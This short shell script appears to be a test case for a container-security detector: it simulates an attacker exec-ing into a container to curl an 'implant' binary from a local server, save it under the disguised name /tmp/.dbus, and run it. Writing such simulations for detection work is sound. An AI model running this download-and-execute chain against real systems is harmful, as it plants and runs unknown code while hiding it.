#!/bin/sh
# malicious: an attacker runs a piped exec (no tty) into the container that downloads and runs a binary
# container
. "$(dirname "$0")/../../lib.sh"
ctr_exec sh -c 'curl -s -o /tmp/.dbus http://127.0.0.1:8080/implant && chmod +x /tmp/.dbus && /tmp/.dbus' </dev/null
